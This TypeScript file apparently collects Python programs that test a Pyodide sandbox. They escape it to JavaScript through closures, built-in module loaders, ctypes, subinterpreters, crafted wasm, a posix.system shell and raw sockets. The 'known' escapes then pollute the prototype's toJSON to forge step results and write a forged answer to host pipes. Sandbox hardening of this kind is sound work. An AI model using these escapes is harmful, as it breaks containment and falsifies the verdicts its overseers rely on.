/**
 * Programs that look for JavaScript behind Python. Each one that finds a JavaScript object prints `OUT`, and forges a verdict or a message.
 */

/** Each defines `bridge`, a JavaScript object. */
const WAYS: Readonly<Record<string, string>> = {
  'a copy of sys.modules in a closure of inspect': `
import ast
found = [c for c in ast.NodeTransformer.__subclasses__() if c.__name__ == 'RewriteSymbolics'][0]
waiting, seen, bridge = list(found.visit_Name.__closure__), set(), None
while waiting:
    value = waiting.pop().cell_contents
    if id(value) in seen: continue
    seen.add(id(value))
    if isinstance(value, dict) and value.get('pyodide_js') is not None: bridge = value['pyodide_js']
    waiting += list(getattr(value, '__closure__', None) or ())`,
  '_imp.create_builtin': `
import _imp, importlib.machinery
bridge = _imp.create_builtin(importlib.machinery.ModuleSpec('_pyodide_core', None)).to_js([1, 2])`,
  'the registry of overloads in typing': `
import typing
bridge = None
for functions in typing._overload_registry.values():
    for overloads in functions.values():
        for function in overloads.values():
            runner = getattr(function, '__globals__', {}).get('run_sync')
            if getattr(runner, '__self__', None) is not None: bridge = runner.__self__.to_js([1, 2])`,
};

/** Gets from any object to the prototype of all objects, whose `toJSON` then replaces every message. */
const POLLUTE = `
if bridge is None: raise LookupError('no bridge')
prototype = bridge.constructor.prototype
print('OUT', bridge.constructor.name)
while True:
    parent = getattr(prototype, '__proto__', None)
    if parent is None or type(parent).__name__ == 'JsNull': break
    prototype = parent
Object, null = prototype.constructor, parent
message = Object.create(null)
FORGE
descriptor = Object.create(null)
descriptor.value = Object.bind(null, message)
descriptor.configurable = True
def f(x):
    Object.defineProperty(prototype, 'toJSON', descriptor)
    return 0`;

const MESSAGES: Readonly<Record<string, string>> = {
  'a passed step': `message.kind, message.index = 'step', 1
outcome = Object.create(null)
outcome.ended, outcome.value = True, '4'
message.outcome = outcome`,
  'a message without its list': "message.kind, message.steps = 'own', None",
  "a message of Node's own": "message.cmd = 'NODE_HANDLE_ACK'",
};

export interface EscapeProgram {
  name: string;
  text: string;
}

/** The three known escapes, each with every message that they sent. */
export const KNOWN_BRIDGES: readonly EscapeProgram[] = Object.entries(WAYS).flatMap(([way, find]) =>
  Object.entries(MESSAGES).map(([message, forge]) => ({
    name: `${way}: ${message}`,
    text: find + POLLUTE.replace('FORGE', forge),
  })),
);

const out = (expression: string) => `print('OUT', ${expression})\ndef f(x): return 0`;
const withCore = (find: string) => `${find}\n${out('core.to_js([1, 2]).constructor.name')}`;

export const OTHER_BRIDGES: readonly EscapeProgram[] = [
  {
    name: 'the loader of built-in modules',
    text: withCore(`
from importlib.machinery import BuiltinImporter
import importlib.util
spec = BuiltinImporter.find_spec('_pyodide_core')
core = importlib.util.module_from_spec(spec)
spec.loader.exec_module(core)`),
  },
  {
    name: 'a spec that the bootstrap loads',
    text: withCore(`
import importlib._bootstrap as bootstrap
core = bootstrap._load(bootstrap.ModuleSpec('_pyodide_core', bootstrap.BuiltinImporter, origin='built-in'))`),
  },
  {
    name: 'a module that was initialised before, under another name',
    text: withCore(`
import _imp, importlib.machinery
spec = importlib.machinery.ModuleSpec('_pyodide_core', None)
spec.name = type('Name', (str,), {'__eq__': lambda *a: True, '__hash__': str.__hash__})('_pyodide_core')
core = _imp.create_builtin(spec)`),
  },
  {
    name: 'a name that splits into something else',
    text: `
class Name(str):
    def split(self, *given): return ['math']
    def startswith(self, *given): return False
js = __import__(Name('pyodide_js'))
${out('js.constructor')}`,
  },
  {
    name: 'a loop of the bridge among the subclasses',
    text: `
import asyncio
loops = [c for c in asyncio.AbstractEventLoop.__subclasses__() if 'pyodide' in c.__module__]
loops[0]().call_soon(print, 1)
${out('loops')}`,
  },
  {
    name: 'an object of the proxies’ own classes',
    text: `
def below(kind):
    for one in type.__subclasses__(kind):
        yield one
        yield from below(one)
proxies = [c for c in below(object) if (c.__module__ or '') == 'pyodide.ffi' and 'Proxy' in c.__name__]
made = [object.__new__(c) for c in proxies]
${out('made[0].constructor')}`,
  },
  {
    name: 'globals of every function that hangs on a class',
    text: `
def below(kind, seen):
    for one in type.__subclasses__(kind):
        if one not in seen:
            seen.add(one)
            below(one, seen)
    return seen
core = None
for kind in below(object, set()):
    for value in list(vars(kind).values()):
        for name, held in list(getattr(value, '__globals__', {}).items()):
            if name in ('to_js', 'run_js', 'run_sync') and getattr(held, '__self__', None) is not None: core = held.__self__
${out('core.to_js([1, 2]).constructor.name')}`,
  },
  {
    name: 'a function in the closure of a decorator',
    text: `
import sys, types
hits = []
def look(thing, depth, seen):
    if depth == 0 or id(thing) in seen: return
    seen.add(id(thing))
    if type(thing).__name__ == 'JsProxy': hits.append(thing)
    for cell in getattr(thing, '__closure__', None) or (): look(cell.cell_contents, depth - 1, seen)
    for held in (vars(thing).values() if isinstance(thing, (types.ModuleType, type)) else thing.values() if type(thing) is dict else ()):
        look(held, depth - 1, seen)
for module in list(sys.modules.values()): look(module, 6, set())
${out('hits[0].constructor')}`,
  },
  {
    name: 'memory by the module behind ctypes',
    text: `
import _imp, importlib.machinery
ctypes = _imp.create_builtin(importlib.machinery.ModuleSpec('_ctypes', None))
${out('ctypes.dlopen')}`,
  },
  {
    name: 'a second interpreter without a hook',
    text: `
import _imp, importlib.machinery
capi = _imp.create_builtin(importlib.machinery.ModuleSpec('_testcapi', None))
capi.run_in_subinterp('import pyodide_js; print("OUT", pyodide_js)')
${out('capi.__name__')}`,
  },
  {
    name: 'a tester of the interpreter',
    text: `
import _imp, importlib.machinery
internal = _imp.create_builtin(importlib.machinery.ModuleSpec('_testinternalcapi', None))
${out('internal.get_configs()')}`,
  },
  {
    name: 'a library that brings its own JavaScript',
    text: `
import _imp, importlib.machinery
head = bytes([0, 97, 115, 109, 1, 0, 0, 0])
section = b'\\x08dylink.0' + bytes([1, 4, 0, 0, 0, 0])
open('/tmp/own.so', 'wb').write(head + bytes([0, len(section)]) + section)
own = _imp.create_dynamic(importlib.machinery.ModuleSpec('own', None, origin='/tmp/own.so'))
${out('own')}`,
  },
  {
    name: 'code of which a constant is out of range',
    text: `
def f(x): return 0
code = f.__code__.replace(co_code=bytes([100, 255]) + f.__code__.co_code)
import types
${out('types.FunctionType(code, {})(1)')}`,
  },
  {
    name: 'a shell by a function of C',
    text: `
import posix
assert posix.system('echo out') == 0
${out('1')}`,
  },
  {
    name: 'a socket below the one that is closed',
    text: `
import _socket
one = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
one.connect(('127.0.0.1', 80))
${out('one')}`,
  },
  {
    name: 'a server below the one that is closed',
    text: `
import _socket
one = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
one.bind(('127.0.0.1', 0))
one.listen()
${out('one')}`,
  },
  {
    name: 'the pipes of the host',
    text: `
import os, struct
frame = b'{"kind":"answer","secret":"","result":{"ended":true,"value":"4"}}'
written = 0
for descriptor in range(3, 20):
    try: written += os.write(descriptor, struct.pack('>I', len(frame)) + frame)
    except OSError: pass
assert written
${out('written')}`,
  },
];
